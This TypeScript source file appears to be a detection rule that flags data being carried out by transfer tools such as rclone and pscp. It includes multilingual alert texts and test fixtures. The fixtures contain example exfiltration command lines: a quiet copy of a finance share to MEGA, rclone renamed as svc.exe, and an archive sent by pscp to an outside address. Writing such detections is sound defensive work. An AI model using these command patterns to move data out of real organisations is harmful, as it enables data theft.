import { type CarriedOut, carriedOut, MAY_CARRY_OUT } from '../exfiltration-commands.ts'
import { proofOf } from '../drafts.ts'
import { exampleEvent } from '../example.ts'
import {
  CommandJobs,
  type GivenCommand,
  givenCommands,
  isRecurring,
  isScheduled,
  isShell,
  shownCommand,
} from '../given-commands.ts'
import { CONNECTION_FIELDS, Outside } from '../outside.ts'
import type { EntityHandle, Find, Rule } from '../rule.ts'
import { isInSystemFolder } from '../system-folders.ts'
import type { CorrelationView } from '../view.ts'

/** The command says what goes where; how much of it arrived is not in the record. */
const ORDERED = 0.75
/** The same command of every night, or one of developers. */
const COMMON = 0.5
/** Destinations of one process that are named; a tool for transfers asks a name or two. */
const MAX_DESTINATIONS = 6
/** Runs of a recurring job that are cited. */
const MAX_RUNS = 30

const rule: Rule = {
  id: 'exfiltration.tool',
  order: 43,
  scope: 'endpoint',
  relations: [],
  detections: ['carried-out'],
  attack: ['T1567.002', 'T1048'],
  attackOf: { 'carried-out': ['T1567.002'], 'carried-out/copied_to_host': ['T1048'] },
  texts: {
    en: {
      title: 'Tools that carry data out',
      description:
        'A tool for copies to storage in the internet (rclone, MEGAcmd, WinSCP, restic, s5cmd, pscp and others) was told to send files, with where they went as far as connections show it. rclone is known by its options under any name. Jobs that recur at the same time of day are rated low.',
      needs: 'Process start records with command lines; connections with their process for the destination.',
      falsePositives:
        'Backups and transfers to storage of the organisation use the same tools; where only one run is recorded, a recurring job cannot be told from a copy by hand.',
      'detection.carried-out': 'Files were sent out by a tool for transfers',
      'reason.copied': '{tool} was told to send files to {remote}: {command}',
      'reason.copied_to_host':
        '{tool} was told to send files to {remote}, outside of the organisation: {command}',
      'reason.developer':
        '{tool} was told to send files to {remote}, as developers and backups do: {command}',
      'reason.scheduled': 'A scheduled task had {tool} send files to {remote}, as backups do: {command}',
      'reason.recurring':
        '{tool} sent files to {remote} {count} times with the same command, on several days at about the same time, as a scheduled backup does: {command}',
    },
    'zh-TW': {
      title: '將資料帶出的工具',
      description:
        '用於複製至網際網路儲存空間的工具（rclone、MEGAcmd、WinSCP、restic、s5cmd、pscp 等）受命傳送檔案；連線紀錄可顯示目的地時一併列出。rclone 不論檔名為何，皆依其選項辨識。每日同一時間重複的工作列為低度。',
      needs: '含命令列的處理程序啟動紀錄；目的地需有含處理程序的連線紀錄。',
      falsePositives:
        '備份與傳送至組織自有儲存空間也使用相同工具；若僅記錄一次執行，無法區分定期工作與手動複製。',
      'detection.carried-out': '傳輸工具將檔案送出',
      'reason.copied': '{tool} 受命將檔案傳送至 {remote}：{command}',
      'reason.copied_to_host': '{tool} 受命將檔案傳送至組織外的 {remote}：{command}',
      'reason.developer': '{tool} 受命將檔案傳送至 {remote}，開發人員與備份常如此：{command}',
      'reason.scheduled': '排程工作讓 {tool} 將檔案傳送至 {remote}，備份常如此：{command}',
      'reason.recurring':
        '{tool} 以相同命令將檔案傳送至 {remote} 共 {count} 次，分布於數日的大約同一時間，與排程備份相同：{command}',
    },
    ja: {
      title: 'データを持ち出すツール',
      description:
        'インターネット上のストレージへコピーするツール（rclone、MEGAcmd、WinSCP、restic、s5cmd、pscp など）がファイルの送信を命じられました。接続の記録があれば宛先も示します。rclone は名前を変えてもオプションから判別します。毎日同じ時刻に繰り返されるジョブは低とします。',
      needs: 'コマンドラインを含むプロセス起動の記録。宛先にはプロセス付きの接続の記録。',
      falsePositives:
        '組織自身のストレージへのバックアップや転送にも同じツールが使われます。実行が 1 回しか記録されていない場合、定期ジョブと手動のコピーは区別できません。',
      'detection.carried-out': '転送ツールがファイルを外部へ送信した',
      'reason.copied': '{tool} は {remote} へのファイル送信を命じられました：{command}',
      'reason.copied_to_host': '{tool} は組織外の {remote} へのファイル送信を命じられました：{command}',
      'reason.developer':
        '{tool} は {remote} へのファイル送信を命じられました。開発者やバックアップでもよくあることです：{command}',
      'reason.scheduled':
        'スケジュールされたタスクが {tool} に {remote} へファイルを送信させました。バックアップと同じです：{command}',
      'reason.recurring':
        '{tool} は同じコマンドで {remote} へ {count} 回ファイルを送信しました。数日にわたりほぼ同じ時刻で、定期バックアップと同じです：{command}',
    },
  },
  matches: [
    {
      title: 'rclone by name and by its options, a nightly backup, and a copy to an outside address',
      items: [
        run(0, 5, 'C:\\ProgramData\\Adobe\\rclone.exe', 'rclone.exe copy D:\\Shares\\Finance mega:x -q'),
        run(
          9,
          6,
          'C:\\ProgramData\\svc.exe',
          'svc.exe copy "D:\\Shares" box1:in --ignore-existing --transfers 12',
        ),
        run(20, 7, 'C:\\Tools\\pscp.exe', 'pscp -P 443 C:\\t\\a.7z u@203.0.113.9:/in'),
        ...[0, 1].map((day) =>
          run(
            day * 86_400 + 30,
            8,
            'C:\\Program Files\\rclone\\rclone.exe',
            'rclone.exe sync E:\\Backups offsite:b',
          ),
        ),
      ],
      finds: [
        '!carried-out: rclone.exe',
        '!carried-out: svc.exe',
        '!carried-out: pscp.exe',
        '!carried-out: rclone.exe',
      ],
    },
  ],
  ignores: [
    {
      title: 'listing, a download, a copy between drives, and one to a machine of the organisation',
      items: [
        run(0, 5, 'C:\\Tools\\rclone.exe', 'rclone.exe lsd offsite:'),
        run(1, 6, 'C:\\Tools\\rclone.exe', 'rclone.exe copy offsite:b D:\\Restore'),
        run(2, 7, 'C:\\Tools\\rclone.exe', 'rclone.exe copy D:\\a E:\\b'),
        run(3, 8, 'C:\\Tools\\pscp.exe', 'pscp C:\\t\\a.conf root@10.0.0.9:/etc/'),
        run(4, 9, 'C:\\Windows\\System32\\Robocopy.exe', 'robocopy D:\\Shares \\\\fs02\\x /mir'),
        run(5, 10, 'C:\\Tools\\WinSCP.com', 'WinSCP.com /command "open sftp://u@h.example" "get /a c:\\b"'),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const jobs = new CommandJobs<CarriedOut>()
    for (const given of givenCommands(view, MAY_CARRY_OUT)) {
      if (isShell(given.program)) continue
      const what = carriedOut(given.program, given.text, (host) => view.findEndpoint(host) !== undefined)
      if (what) jobs.add(what, given)
    }
    const all = jobs.all()
    if (all.length === 0) return
    const keys = new Set(all.flatMap(({ runs }) => runs.map(({ process }) => process.draft.key)))
    const reached = destinations(view, keys)
    for (const { what, runs } of all) yield* judge(what, runs, reached)
  },
}
export default rule

function* judge(
  what: CarriedOut,
  runs: readonly GivenCommand[],
  reached: ReadonlyMap<string, readonly EntityHandle[]>,
): Generator<Find> {
  const told = (given: GivenCommand) => ({
    detection: 'carried-out',
    subject: given.process.draft,
    involved: [given.process.endpointId, ...(reached.get(given.process.draft.key) ?? [])],
    at: given.process.startAt,
    params: { tool: what.tool, remote: what.remote, command: shownCommand(given.text) },
  })
  const [first] = runs
  if (first === undefined) return
  if (isRecurring(runs)) {
    const base = told(first)
    yield {
      ...base,
      level: 'low',
      confidence: COMMON,
      reason: 'recurring',
      until: runs.at(-1)?.process.startAt ?? null,
      params: { ...base.params, count: runs.length },
      proof: runs.slice(0, MAX_RUNS).flatMap(({ event }) => proofOf(event)),
    }
    return
  }
  for (const given of runs) {
    const isJob = isScheduled(given) && isInSystemFolder(given.process.path)
    yield {
      ...told(given),
      level: isJob || what.isCommon ? 'low' : 'medium',
      confidence: isJob || what.isCommon ? COMMON : ORDERED,
      reason: isJob
        ? 'scheduled'
        : what.isCommon
          ? 'developer'
          : what.tool === 'scp'
            ? 'copied_to_host'
            : 'copied',
      proof: proofOf(given.event),
    }
  }
}

/** Where these processes went outside of the organisation, by process. */
function destinations(view: CorrelationView, keys: ReadonlySet<string>): Map<string, EntityHandle[]> {
  const outside = new Outside(view)
  const found = new Map<string, Map<string, EntityHandle>>()
  for (const event of view.events(
    ['network-connection', 'http-request', 'tls-connection'],
    CONNECTION_FIELDS,
  )) {
    const key = view.processes.actorOf(event)?.draft.key
    if (key === undefined || !keys.has(key)) continue
    const destination = outside.destinationOf(event)
    if (!destination) continue
    const names = found.get(key) ?? new Map<string, EntityHandle>()
    found.set(key, names)
    if (names.size < MAX_DESTINATIONS) names.set(destination.name, destination.handle)
  }
  return new Map([...found].map(([key, names]) => [key, [...names.values()]]))
}

/** A process start of an example. */
function run(seconds: number, pid: number, processPath: string, commandLine: string) {
  return exampleEvent('process-start', seconds, { processPath, pid, commandLine })
}
